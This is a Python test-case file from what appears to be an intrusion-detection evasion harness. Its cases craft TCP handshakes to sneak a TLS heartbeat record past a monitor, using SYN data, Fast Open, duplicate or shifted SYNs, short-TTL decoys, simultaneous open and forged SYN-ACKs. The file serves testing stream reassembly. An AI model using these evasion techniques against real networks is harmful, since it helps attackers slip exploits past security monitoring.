# SPDX-License-Identifier: GPL-2.0
"""SYNs with data, SYNs sent twice, and connections that both sides open."""

import victim as tls
from attacker import FAST_OPEN, Attack, high

from .case import (
    CLIENT,
    EVERYWHERE,
    SERVER,
    SERVER_PROTECTED,
    SHORT_TTL,
    case,
    decoy,
    decoy_for,
    filler,
)
from .decoys import TWO_SIGNATURES

FAST_OPEN_COOKIE = b"\x22\x0a" + bytes(8)
# A record of 19 bytes; after its first 6 bytes comes what reads like another header: 17 03 03 40
# 00.
AMBIGUOUS = b"\x18\x03\x03\x00\x13" + b"\x01" + b"\x17\x03\x03\x40\x00" + high(13)


def open_with_data(attack: Attack, data: bytes) -> None:
    """A SYN with data to a server that does not know Fast Open, and the rest of the handshake."""
    attack.seq = 1_000_000
    attack.syn(data)
    attack.await_syn()
    attack.seq += 1
    attack.segment()
    attack.sync()


@case(CLIENT)
def syn_data(attack: Attack) -> None:
    """Heartbeat on the SYN, which the server refuses; then once more."""
    open_with_data(attack, attack.heartbeat)
    attack.send(attack.heartbeat)


@case(CLIENT)
def syn_decoy(attack: Attack) -> None:
    """Decoy on the SYN, which the server refuses."""
    open_with_data(attack, decoy_for(attack))
    attack.send(attack.heartbeat)


@case(CLIENT)
def syn_long_decoy(attack: Attack) -> None:
    """Decoy on the SYN, then a whole ClientHello and the heartbeat."""
    open_with_data(attack, decoy(400))
    attack.greet()
    attack.send(attack.heartbeat)


@case(CLIENT, host=FAST_OPEN)
def fast_open(attack: Attack) -> None:
    """Heartbeat on the SYN, which the server takes."""
    attack.seq = 1_000_000
    attack.syn(attack.heartbeat, options=attack.syn_options() + FAST_OPEN_COOKIE)
    attack.await_syn()
    attack.seq += 1 + len(attack.heartbeat)
    attack.segment()


def fast_open_twice(attack: Attack, first: bytes, second: bytes, shift: int = 0) -> None:
    """Two SYNs before the answer to the first, whose data the server takes."""
    attack.seq = 1_000_000
    attack.syn(first, options=attack.syn_options() + FAST_OPEN_COOKIE)
    attack.syn(second, seq=attack.seq + shift)
    attack.await_syn()
    attack.seq += 1 + len(first)
    attack.segment()


@case(CLIENT, host=FAST_OPEN)
def second_syn_with_decoy(attack: Attack) -> None:
    """The second SYN has the same number and other data."""
    half = attack.heartbeat[:6]
    fast_open_twice(attack, half, decoy(6))
    attack.send(attack.heartbeat[6:])


@case(CLIENT, host=FAST_OPEN)
def second_syn_bare(attack: Attack) -> None:
    """The second SYN has no data, as a Fast Open client sends it again."""
    fast_open_twice(attack, AMBIGUOUS[:6], b"")
    attack.send(AMBIGUOUS[6:])


@case(CLIENT, host=FAST_OPEN)
def second_syn_elsewhere(attack: Attack) -> None:
    """The second SYN has another number, and its decoy ends where the data of the first did."""
    half = attack.heartbeat[:6]
    fast_open_twice(attack, half, decoy(20), shift=6 - 20)
    attack.send(attack.heartbeat[6:])


@case(CLIENT)
def second_syn(attack: Attack) -> None:
    """Two SYNs of different numbers, the first of which is dropped after the router."""
    attack.seq = 1_000_000
    attack.syn(decoy(400), seq=attack.seq - 100, ttl=SHORT_TTL)
    attack.syn()
    attack.await_syn()
    attack.seq += 1
    attack.segment()
    attack.send(attack.heartbeat)


@case(*EVERYWHERE)
def syn_later(attack: Attack) -> None:
    """A SYN with a decoy inside the connection, which its receiver answers by an ACK only."""
    attack.begin()
    attack.segment(decoy_for(attack), seq=attack.seq - 1, flags="S", ack=0)
    attack.segment(decoy_for(attack), seq=attack.seq, flags="SA")
    attack.send(attack.heartbeat)


@case(SERVER)
def syn_ack_decoy(attack: Attack) -> None:
    """Decoy on the SYN-ACK: a client ignores data there."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.segment(decoy_for(attack), flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.send(attack.heartbeat)


@case(SERVER_PROTECTED)
def syn_ack_flight(attack: Attack) -> None:
    """On the SYN-ACK, a flight that the client ignores, and a decoy; then the real flight."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    hello = tls.hello(tls.SERVER_HELLO)
    attack.segment(hello + tls.SERVER_FLIGHT + decoy(20), flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.greet()
    attack.send(attack.heartbeat)


def open_simultaneously(attack: Attack, data: bytes) -> None:
    """Answers the victim's SYN by a SYN."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.syn(data)
    attack.seq += 1
    attack.sync()
    attack.segment()
    attack.sync()


@case(SERVER, SERVER_PROTECTED)
def simultaneous_open(attack: Attack) -> None:
    """Both sides send a SYN."""
    open_simultaneously(attack, b"")
    attack.greet()
    attack.send(attack.heartbeat)


@case(SERVER)
def simultaneous_open_decoy(attack: Attack) -> None:
    """The same with a decoy on the crossing SYN, which is ignored."""
    open_simultaneously(attack, decoy_for(attack))
    attack.send(attack.heartbeat)


@case(SERVER, SERVER_PROTECTED)
def data_before_the_syn_ack(attack: Attack) -> None:
    """A record 2^30 ahead before the SYN-ACK: the client discards it."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.segment(filler(105), seq=attack.seq + (1 << 30))
    attack.barrier()
    attack.segment(flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.greet()
    attack.send(attack.heartbeat)


@case(SERVER, SERVER_PROTECTED)
def signed_syn_ack(attack: Attack) -> None:
    """A SYN-ACK that the client drops for its signatures, then another one."""
    attack.seq = 1_000_000
    attack.be_connected_to()
    attack.at(500, b"", flags="SA", options=attack.syn_options() + TWO_SIGNATURES)
    attack.barrier()
    attack.segment(flags="SA", options=attack.syn_options())
    attack.seq += 1
    attack.sync()
    attack.greet()
    attack.send(attack.heartbeat)
